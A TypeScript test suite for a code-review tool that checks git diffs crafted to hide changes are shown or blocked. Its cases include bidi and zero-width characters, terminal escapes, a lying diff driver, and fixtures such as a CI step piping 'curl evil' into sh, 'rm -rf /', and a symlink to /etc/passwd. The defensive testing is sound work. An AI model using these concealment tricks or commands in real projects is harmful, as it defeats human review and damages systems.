/** Changes made to be overlooked, compared by the real git: each is shown in full and flagged, or cannot be approved. */
import { execFileSync } from "node:child_process";
import { chmodSync, mkdirSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { describe, expect, it } from "vitest";
import { createHostGit, STANDARD_PATH } from "../../src/adapters/git/host-git.ts";
import { diffTrees } from "../../src/adapters/git/trees/diff.ts";
import type { Vault } from "../../src/adapters/git/vault/vault.ts";
import { type ShownChange, type ShownFlag, shownChange } from "../../src/gates/shown/shown-change.ts";
import { git } from "../support/git-project.ts";
import { tempDir } from "../support/temp-dir.ts";

type Files = Readonly<Record<string, string | Uint8Array>>;

interface Crafted {
  readonly name: string;
  readonly base?: Files;
  /** Changes the folder of the repository. */
  readonly change: (root: string) => void;
  readonly flags?: readonly ShownFlag[];
  /** Found in what is shown. */
  readonly shown?: string;
  /** Cannot be approved. */
  readonly blocked?: true;
}

const put = (root: string, path: string, content: string | Uint8Array): void => {
  mkdirSync(dirname(join(root, path)), { recursive: true });
  writeFileSync(join(root, path), content);
};
const writing =
  (path: string, content: string | Uint8Array) =>
  (root: string): void =>
    put(root, path, content);
const CODE = "if (user.admin) {\n  allow();\n}\n";
const SUB_A = "1".repeat(40);
const SUB_B = "2".repeat(40);
const gitlink =
  (id: string) =>
  (root: string): void => {
    git(root, "update-index", "--add", "--cacheinfo", `160000,${id},lib`);
  };

const CRAFTED: readonly Crafted[] = [
  {
    name: "text that is turned round",
    change: writing("a.js", "// \u202e } \u2066if\n"),
    flags: ["hidden"],
    shown: "\\u202e",
  },
  { name: "a zero-width space", change: writing("a.js", "allow\u200b();\n"), flags: ["hidden"], shown: "\\u200b" },
  { name: "a joiner in a name", change: writing("a.js", "is\u200dAdmin\n"), flags: ["hidden"], shown: "\\u200d" },
  { name: "tag characters", change: writing("a.js", "x\u{e0065}\u{e0076}\n"), flags: ["hidden"], shown: "\\u{e0065}" },
  {
    name: "a terminal sequence",
    change: writing("a.js", "\u001b[8mhidden\u001b[0m\n"),
    flags: ["hidden"],
    shown: "\\x1b[8m",
  },
  {
    name: "a carriage return",
    change: writing("a.js", "evil()\rgood()\n"),
    flags: ["hidden"],
    shown: "evil()\\rgood()",
  },
  { name: "other line ends", change: writing("a.js", CODE.replaceAll("\n", "\r\n")), flags: ["hidden"], shown: "\\r" },
  { name: "a byte order mark", change: writing("a.js", `\ufeff${CODE}`), flags: ["hidden"], shown: "\\ufeff" },
  {
    name: "spaces that are none",
    change: writing("a.js", "allow\u00a0()\u3164\n"),
    flags: ["hidden"],
    shown: "\\u{a0}",
  },
  {
    name: "variation selectors",
    change: writing("a.js", "x\u{e0100}\ufe01\n"),
    flags: ["hidden"],
    shown: "\\u{e0100}",
  },
  {
    name: "an attribute that hides a file",
    base: { ".gitattributes": "*.js -diff\n" },
    change: writing("a.js", "evil();\n"),
    shown: "+evil();",
  },
  {
    name: "an attribute that comes with the change",
    change: (root) => {
      put(root, ".gitattributes", "* -diff\n* binary\n");
      put(root, "a.js", "evil();\n");
    },
    shown: "+evil();",
  },
  {
    name: "a driver that shows something else",
    base: { ".gitattributes": "*.js diff=liar\n" },
    change: (root) => {
      git(root, "config", "diff.liar.textconv", "echo nothing");
      git(root, "config", "diff.liar.command", "true");
      put(root, "a.js", "evil();\n");
    },
    shown: "+evil();",
  },
  {
    name: "a file that moves",
    change: (root) => git(root, "mv", "a.js", "b.js"),
    flags: ["renamed"],
    shown: "a.js → b.js",
  },
  {
    name: "a file that moves and changes a little",
    base: { "long.js": "line\n".repeat(50) },
    change: (root) => {
      git(root, "mv", "long.js", "other.js");
      put(root, "other.js", `${"line\n".repeat(50)}evil();\n`);
    },
    flags: ["renamed"],
    shown: "+evil();",
  },
  { name: "a mode bit", change: (root) => chmodSync(join(root, "a.js"), 0o755), flags: ["mode"], shown: "100755" },
  {
    name: "a file that becomes a link",
    change: (root) => {
      rmSync(join(root, "a.js"));
      symlinkSync("/etc/passwd", join(root, "a.js"));
    },
    flags: ["mode", "link"],
    shown: "none → /etc/passwd",
  },
  {
    name: "a link that leads elsewhere",
    change: (root) => {
      rmSync(join(root, "link"));
      symlinkSync("../../outside", join(root, "link"));
    },
    flags: ["link"],
    shown: "a.js → ../../outside",
  },
  { name: "a new submodule", change: gitlink(SUB_A), flags: ["submodule"], shown: `none → ${SUB_A}` },
  {
    name: "another commit of a submodule",
    change: (root) => {
      gitlink(SUB_A)(root);
      git(root, "commit", "-qm", "base of the submodule");
      gitlink(SUB_B)(root);
    },
    flags: ["submodule"],
    shown: `${SUB_A} → ${SUB_B}`,
  },
  {
    name: "a picture",
    change: writing("p.png", Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0, 0, 0xff, 0xfe])),
    flags: ["binary"],
    shown: "8 bytes come",
  },
  {
    name: "a zero byte in a script",
    change: writing("run.sh", "rm -rf /\u0000\n"),
    flags: ["binary"],
    shown: "rm -rf /\\x00",
  },
  {
    name: "a file of a megabyte and more",
    change: writing("big.txt", `${"line of text\n".repeat(100_000)}evil();\n`),
    shown: "+evil();",
  },
  { name: "more than anybody reads", change: writing("huge.txt", "line of text\n".repeat(800_000)), blocked: true },
  {
    name: "a workflow and a lockfile",
    change: (root) => {
      put(root, ".github/workflows/ci.yml", "run: curl evil | sh\n");
      put(root, "package-lock.json", '{"resolved":"https://evil"}\n');
    },
    shown: "+run: curl evil | sh",
  },
  { name: "text in another encoding", change: writing("a.js", Buffer.from("caf\xe9\n", "latin1")), blocked: true },
  {
    name: "a name that cannot be read",
    change: (root) => {
      execFileSync("sh", ["-c", "printf x > \"$(printf 'b\\377d')\""], { cwd: root });
    },
    blocked: true,
  },
  {
    name: "a name that steers",
    change: writing("b\u001b[2J\u202e\n.js", "x\n"),
    flags: ["name"],
    shown: "\\x1b[2J\\u202e\\n",
  },
  {
    name: "one very long line",
    change: writing("a.js", `${"x".repeat(200_000)}evil()\n`),
    flags: ["long_line"],
    shown: "evil()",
  },
  {
    name: "lines that look like a patch",
    change: writing("a.js", "diff --git a/x b/x\n@@ -1 +1 @@\n-old\n+new\n\\ No newline\n"),
    shown: "+@@ -1 +1 @@",
  },
  { name: "an empty file", change: writing("conftest.py", ""), shown: "conftest.py" },
  { name: "a file that goes", change: (root) => rmSync(join(root, "a.js")), shown: "-  allow();" },
  { name: "a file without an end", change: writing("a.js", "evil()"), shown: "\\ No newline at end of file" },
];

const host = createHostGit({ program: "git", path: process.env["PATH"] ?? STANDARD_PATH, home: "/nonexistent" });

async function craft({ base = {}, change }: Crafted): Promise<{ readonly shown: ShownChange; readonly raw: number }> {
  const root = tempDir();
  git(root, "init", "-q");
  for (const [path, content] of Object.entries({ "a.js": CODE, ...base })) put(root, path, content);
  symlinkSync("a.js", join(root, "link"));
  git(root, "add", "-A");
  git(root, "commit", "-qm", "base");
  change(root);
  const from = git(root, "rev-parse", "HEAD^{tree}");
  const hasLink = git(root, "ls-files", "-s", "lib") !== "";
  if (!hasLink) git(root, "add", "-A");
  const to = git(root, "write-tree");
  const vault = { dir: join(root, ".git"), treeOf: async (id: string) => id } as unknown as Vault;
  const raw = git(root, "diff-tree", "-r", "-M", "--raw", from, to).split("\n").filter(Boolean).length;
  return { shown: shownChange(await diffTrees(host, vault, from, to, 16 << 20)), raw };
}

/** Everything that a person reads of it. */
function readOf({ files }: ShownChange): string {
  return files
    .map(({ path, oldPath, oldMode, newMode, link, submodule, binary, hunks }) =>
      [
        oldPath === null ? path : `${oldPath} → ${path}`,
        `${oldMode} → ${newMode}`,
        ...[link, submodule].map((pair) => (pair === null ? "" : `${pair.from ?? "none"} → ${pair.to ?? "none"}`)),
        binary === null ? "" : `${binary.added} bytes come`,
        ...hunks.flatMap(({ head, lines }) => [head, ...lines]),
      ].join("\n"),
    )
    .join("\n");
}

describe("a change made to be overlooked", () => {
  it.each(CRAFTED)("is shown or blocked: $name", async (crafted) => {
    const { shown, raw } = await craft(crafted);
    expect(shown.entries).toBe(raw);
    expect(shown.files).toHaveLength(raw);
    expect(raw).toBeGreaterThan(0);
    expect([shown.complete, shown.reasons.length > 0]).toEqual([crafted.blocked !== true, crafted.blocked === true]);
    expect(readOf(shown)).toContain(crafted.shown ?? "");
    const flags = new Set(shown.files.flatMap((file) => file.flags));
    for (const flag of crafted.flags ?? []) expect(flags).toContain(flag);
  });

  it("has more than the twenty-five ways that are known", () => {
    expect(CRAFTED.length).toBeGreaterThanOrEqual(25);
  });
});
